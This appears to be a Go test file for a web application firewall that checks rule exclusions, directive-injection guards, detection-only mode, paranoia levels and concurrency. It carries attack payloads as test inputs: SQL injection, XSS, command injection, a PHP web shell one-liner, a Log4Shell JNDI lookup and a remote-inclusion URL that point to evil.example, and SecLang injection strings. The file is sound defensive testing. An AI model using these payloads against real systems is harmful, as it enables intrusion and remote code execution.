package waf

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"
)

func TestNewRejectsInvalidConfig(t *testing.T) {
	tests := []struct {
		name  string
		cfg   Config
		field string // the error must name it
	}{
		{"paranoia level above 4", Config{ParanoiaLevel: 5}, "Config.ParanoiaLevel"},
		{"negative paranoia level", Config{ParanoiaLevel: -1}, "Config.ParanoiaLevel"},
		{"negative threshold", Config{InboundThreshold: -5}, "Config.InboundThreshold"},
		{"negative body limit", Config{BodyLimit: -1}, "Config.BodyLimit"},
		{"body limit above the maximum", Config{BodyLimit: MaxBodyLimit + 1}, "Config.BodyLimit"},
		{"exclusion without rules", Config{Exclusions: []Exclusion{{PathPrefix: "/a"}}}, "Config.Exclusions[0].RuleIDs"},
		{"exclusion of rule 0", Config{Exclusions: []Exclusion{{PathPrefix: "/a", RuleIDs: []int{0}}}}, "Config.Exclusions[0].RuleIDs[0]"},
		{"exclusion of a rule that does not exist", Config{Exclusions: []Exclusion{
			{PathPrefix: "/a", RuleIDs: []int{942100}},
			{PathPrefix: "/b", RuleIDs: []int{942100, 942999}},
		}}, "Config.Exclusions[1].RuleIDs[1]"},
		{"too many exclusions", Config{Exclusions: make([]Exclusion, maxExclusions+1)}, "Config.Exclusions"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if len(tt.cfg.Exclusions) > maxExclusions {
				for i := range tt.cfg.Exclusions {
					tt.cfg.Exclusions[i] = Exclusion{PathPrefix: "/x", RuleIDs: []int{942100}}
				}
			}
			f, err := New(tt.cfg)
			if err == nil {
				t.Fatalf("New(%+v) = %v, nil; want an error", tt.cfg, f)
			}
			if !strings.Contains(err.Error(), tt.field) {
				t.Errorf("error %q does not name %s", err, tt.field)
			}
		})
	}
}

// A path prefix ends up inside a SecLang directive: anything that could
// close the operator's quotes, escape, expand a macro or start a new
// directive must be refused before it reaches the parser.
func TestExclusionPrefixCannotInjectDirectives(t *testing.T) {
	bad := []string{
		"",
		"api",
		`/a" "id:1,phase:1,allow"`,
		"/a\nSecRuleEngine Off",
		"/a\r\nSecRuleEngine Off",
		`/a\`,
		"/a%{tx.x}",
		"/a%2e",
		"/a b",
		"/a\tb",
		"/a'b",
		"/a\x00",
		"/a#b",
		"/a?b=1",
		"/é",
		"/a/../b",
		"/a/./b",
		"/" + strings.Repeat("a", maxPathPrefix),
	}
	for _, p := range bad {
		t.Run(fmt.Sprintf("%q", p), func(t *testing.T) {
			_, err := New(Config{Exclusions: []Exclusion{{PathPrefix: p, RuleIDs: []int{942100}}}})
			if err == nil || !strings.Contains(err.Error(), "Config.Exclusions[0].PathPrefix") {
				t.Errorf("New accepted prefix %q (err %v)", p, err)
			}
		})
	}
	good := "/api/v1/items;matrix=1/~user/a-b_c.d!$&()*+,=:@"
	if err := validPathPrefix(good); err != nil {
		t.Errorf("validPathPrefix(%q) = %v; want it accepted", good, err)
	}
}

func TestExclusionAppliesOnlyUnderItsPrefix(t *testing.T) {
	// 942100 is libinjection's SQL injection rule; with it gone from the
	// notes API, "1' or '1'='1" (which only it catches) passes there.
	exclusions := []Exclusion{{PathPrefix: "/api/notes/", RuleIDs: []int{942100}}}
	const q = "?text=" + "1%27+or+%271%27%3D%271"

	t.Run("blocking", func(t *testing.T) {
		f, err := New(Config{Exclusions: exclusions})
		if err != nil {
			t.Fatal(err)
		}
		for target, blocked := range map[string]bool{
			"/api/notes/17" + q: false,
			"/api/users/17" + q: true,
		} {
			if v := inspect(t, f, newRequest("GET", target, "", "")); v.Blocked != blocked {
				t.Errorf("%s: blocked=%v, want %v (matches %v)", target, v.Blocked, blocked, ruleIDs(v))
			}
		}
	})

	// Paths with dot segments are blocked by the traversal rules (930100)
	// before 942100 runs; in DetectionOnly mode every rule runs, so whether
	// the exclusion applied shows.
	f, err := New(Config{DetectionOnly: true, Exclusions: exclusions})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		target   string
		excluded bool
	}{
		{"/api/notes/17" + q, true},
		{"/api/notes/" + q, true},
		{"/api/notes" + q, false}, // the prefix ends with "/"
		{"/api/notesx/17" + q, false},
		{"/api/users/17" + q, false},
		{"/API/notes/17" + q, false},
		{"/x/api/notes/17" + q, false},
		{"/api/notes/../users/17" + q, false},     // resolves elsewhere
		{"/api/notes/%2e%2e/users/17" + q, false}, // the same, encoded
		{"/api/notes/..%5cusers%5c17" + q, false}, // the same, Windows style
		{"/api/notes/a/../17" + q, true},          // resolves inside
		{"/other/../api/notes/17" + q, false},     // as sent, not under it
	}
	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			v := inspect(t, f, newRequest("GET", tt.target, "", ""))
			matched := false
			for _, m := range v.Matches {
				matched = matched || m.RuleID == 942100
			}
			if matched == tt.excluded {
				t.Errorf("942100 matched=%v; want the rule excluded=%v (matches %v)", matched, tt.excluded, ruleIDs(v))
			}
		})
	}
}

// TestExclusionPrefixesMatchOnPathSegments is issue 10, item 10: an
// exclusion for "/products" also applied to "/productsXYZ". Prefixes now
// match on path-segment boundaries.
func TestExclusionPrefixesMatchOnPathSegments(t *testing.T) {
	const q = "?text=" + "1%27+or+%271%27%3D%271" // only 942100 catches it
	blocking, err := New(Config{Exclusions: []Exclusion{
		{PathPrefix: "/products", RuleIDs: []int{942100}},
		{PathPrefix: "/notes/", RuleIDs: []int{942100}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	for target, excluded := range map[string]bool{
		"/products" + q:           true,
		"/products/" + q:          true,
		"/products/1" + q:         true,
		"/products/1/reviews" + q: true,
		"/productsXYZ" + q:        false,
		"/products-old/1" + q:     false,
		"/products.json" + q:      false,
		"/notes/1" + q:            true,
		"/notes/" + q:             true,
		"/notes" + q:              false, // the prefix ends with "/"
		"/notesXYZ" + q:           false,
	} {
		t.Run(target, func(t *testing.T) {
			v := inspect(t, blocking, newRequest("GET", target, "", ""))
			if v.Blocked == excluded {
				t.Errorf("blocked=%v, want %v (matches %v)", v.Blocked, !excluded, ruleIDs(v))
			}
		})
	}
}

func TestDetectionOnlyReportsButNeverBlocks(t *testing.T) {
	f := shared(t, detectionOnly)
	for _, class := range attacks {
		for _, w := range where {
			p := class.payloads[0]
			t.Run(fmt.Sprintf("%d in %s", class.family, w.name), func(t *testing.T) {
				v := inspect(t, f, w.req(p))
				if v.Blocked {
					t.Error("blocked in DetectionOnly mode")
				}
				if !v.WouldBlock || v.Status != http.StatusForbidden || v.Score < 5 {
					t.Errorf("WouldBlock=%v Status=%d Score=%d; want true, 403, at least 5", v.WouldBlock, v.Status, v.Score)
				}
				if !hasFamily(v, class.family) {
					t.Errorf("no %dxxx rule reported; got %v", class.family, ruleIDs(v))
				}
			})
		}
	}
	t.Run("a body that does not parse", func(t *testing.T) {
		v := inspect(t, f, newRequest("POST", "/api", "application/json", `{"a":1,,}`))
		if v.Blocked || !v.WouldBlock || v.Status != http.StatusBadRequest {
			t.Errorf("got %+v; want not blocked, would block with 400", v)
		}
	})
}

func TestParanoiaLevelAndThreshold(t *testing.T) {
	// "| id" is a command too short for paranoia level 1 (its rule, 932350,
	// is at level 3); a level-4 firewall also scores a lone apostrophe.
	pl3, err := New(Config{ParanoiaLevel: 3})
	if err != nil {
		t.Fatal(err)
	}
	lenient, err := New(Config{InboundThreshold: 1000})
	if err != nil {
		t.Fatal(err)
	}
	pl1 := shared(t, blocking)
	cmd := "/api/search?q=" + url.QueryEscape("| id")
	if v := inspect(t, pl1, newRequest("GET", cmd, "", "")); v.Blocked {
		t.Errorf("level 1 blocked %q: %v", cmd, ruleIDs(v))
	}
	if v := inspect(t, pl3, newRequest("GET", cmd, "", "")); !v.Blocked || !hasFamily(v, 932) {
		t.Errorf("level 3 did not block %q with a 932 rule: %+v", cmd, v)
	}
	sqli := "/api/search?q=" + url.QueryEscape("' OR '1'='1")
	v := inspect(t, lenient, newRequest("GET", sqli, "", ""))
	if v.Blocked || v.WouldBlock || v.Score < 5 || !hasFamily(v, 942) {
		t.Errorf("threshold 1000: got %+v; want scored and matched but not blocked", v)
	}
}

func TestVerdictIsBounded(t *testing.T) {
	f := shared(t, detectionOnly)
	// Every attack payload of the tests and a few more classes in one
	// request, each with a long tail: more than maxMatches rules match,
	// and each would log more attacker data than Data may carry.
	q := url.Values{}
	tail := " " + strings.Repeat("A", 300) + "é"
	extra := []string{
		"<?php system($_GET['c']); ?>",
		"${jndi:ldap://evil.example/a}",
		"php://filter/convert.base64-encode/resource=index.php",
		"http://evil.example/shell.txt?",
	}
	for _, class := range attacks {
		for i, p := range append(class.payloads, extra...) {
			q.Set(fmt.Sprintf("p%d_%d", class.family, i), p+tail)
		}
	}
	v := inspect(t, f, newRequest("GET", "/api?"+q.Encode(), "", ""))
	if len(v.Matches) != maxMatches {
		t.Errorf("%d matches; want the cap, %d", len(v.Matches), maxMatches)
	}
	long := 0
	for _, m := range v.Matches {
		if len(m.Data) > maxDataLen || len(m.Message) > maxMessageLen || !utf8.ValidString(m.Data) {
			t.Errorf("rule %d: %d bytes of data (valid UTF-8: %v), %d of message", m.RuleID, len(m.Data), utf8.ValidString(m.Data), len(m.Message))
		}
		if strings.HasSuffix(m.Data, "...") {
			long++
		}
	}
	if long == 0 {
		t.Error("no match carried the long tail; the test no longer checks the bound on Data")
	}
}

func TestMatchesSkipBookkeepingRules(t *testing.T) {
	f := shared(t, blocking)
	v := inspect(t, f, newRequest("GET", "/api/search?q="+url.QueryEscape("<script>alert(1)</script>"), "", ""))
	for _, m := range v.Matches {
		if m.RuleID/1000 == 901 || m.Message == "" {
			t.Errorf("bookkeeping rule reported: %+v", m)
		}
	}
	var xss *Match
	for i := range v.Matches {
		if v.Matches[i].RuleID == 941100 {
			xss = &v.Matches[i]
		}
	}
	if xss == nil {
		t.Fatalf("941100 not reported: %v", ruleIDs(v))
	}
	if xss.Severity != "critical" || !strings.Contains(xss.Data, "ARGS:q") || !slices.Contains(xss.Tags, "attack-xss") {
		t.Errorf("941100 reported as %+v", *xss)
	}
}

// One Firewall serves all requests at once; -race checks that nothing in
// Inspect is shared between transactions unguarded.
func TestConcurrentInspect(t *testing.T) {
	f := shared(t, blocking)
	var wg sync.WaitGroup
	errs := make(chan error, 64)
	for i := range 8 {
		wg.Go(func() {
			for j := range 25 {
				attack := (i+j)%2 == 0
				q := "hello world"
				if attack {
					q = "' OR '1'='1"
				}
				r := newRequest("POST", "/api/search", "application/json", `{"q":`+fmt.Sprintf("%q", q)+`}`)
				v, err := f.Inspect(r, "", BodyPrefix)
				if err == nil && v.Blocked != attack {
					err = fmt.Errorf("q=%q: blocked=%v", q, v.Blocked)
				}
				if err != nil {
					errs <- err
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestClientIPDefaultsToRemoteAddr(t *testing.T) {
	f := shared(t, blocking)
	r := newRequest("GET", "/", "", "")
	r.RemoteAddr = "not an address"
	if _, err := f.Inspect(r, "", BodyPrefix); err != nil {
		t.Fatal(err)
	}
	r.RemoteAddr = "[2001:db8::1]:443"
	if _, err := f.Inspect(r, "", BodyPrefix); err != nil {
		t.Fatal(err)
	}
}
